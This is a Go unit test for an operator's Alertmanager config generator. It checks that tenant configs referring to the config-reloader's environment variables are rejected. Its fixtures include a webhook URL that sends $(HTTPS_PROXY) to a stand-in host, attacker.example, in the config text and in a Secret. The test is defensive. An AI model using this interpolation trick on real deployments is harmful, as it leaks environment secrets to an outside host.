package amcfg_test

import (
	"strings"
	"testing"

	monitoringv1 "github.com/prometheus-operator/prometheus-operator/pkg/apis/monitoring/v1"
	monitoringv1alpha1 "github.com/prometheus-operator/prometheus-operator/pkg/apis/monitoring/v1alpha1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/lookout-operator/lookout/pkg/alertmanager/amcfg"
)

// TestTenantEnvRefs: an AlertmanagerConfig may not refer to the config-reloader's
// environment, in its own text or in a Secret it reads, except $(POD_NAME) (issue 32,
// item 6).
func TestTenantEnvRefs(t *testing.T) {
	hook := func(url string, secret bool) *monitoringv1alpha1.AlertmanagerConfig {
		wh := monitoringv1alpha1.WebhookConfig{URL: &url}
		if secret {
			wh = monitoringv1alpha1.WebhookConfig{URLSecret: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "s"}, Key: "leak"}}
		}
		return &monitoringv1alpha1.AlertmanagerConfig{
			ObjectMeta: metav1.ObjectMeta{Namespace: "ns1", Name: "t"},
			Spec: monitoringv1alpha1.AlertmanagerConfigSpec{
				Route:     &monitoringv1alpha1.Route{Receiver: "r"},
				Receivers: []monitoringv1alpha1.Receiver{{Name: "r", WebhookConfigs: []monitoringv1alpha1.WebhookConfig{wh}}},
			},
		}
	}
	assets := amcfg.MapAssets{"secret/ns1/s/leak": "https://attacker.example/hook?leak=$(HTTPS_PROXY)"}
	am := &monitoringv1.Alertmanager{ObjectMeta: metav1.ObjectMeta{Namespace: "monitoring", Name: "main"}}
	for _, c := range []struct {
		name   string
		amc    *monitoringv1alpha1.AlertmanagerConfig
		reject string
	}{
		{"in the text", hook("https://attacker.example/hook?leak=$(HTTPS_PROXY)", false), "spec.receivers[0]: refers to $(HTTPS_PROXY) (in its text or a Secret it reads)"},
		{"in a Secret", hook("", true), "spec.receivers[0]: refers to $(HTTPS_PROXY)"},
		{"POD_NAME", hook("https://hook.example/$(POD_NAME)", false), ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			res, err := amcfg.Generate(amcfg.Input{Alertmanager: am, Configs: []*monitoringv1alpha1.AlertmanagerConfig{c.amc}, Assets: assets})
			if err != nil {
				t.Fatal(err)
			}
			v := res.Verdicts[types.NamespacedName{Namespace: "ns1", Name: "t"}]
			if c.reject == "" {
				if !v.Accepted {
					t.Fatalf("refused: %+v", v)
				}
				return
			}
			if v.Accepted || !strings.Contains(v.Field+": "+v.Message, c.reject) || strings.Contains(string(res.Config), "HTTPS_PROXY") {
				t.Fatalf("verdict %+v config:\n%s", v, res.Config)
			}
		})
	}
}
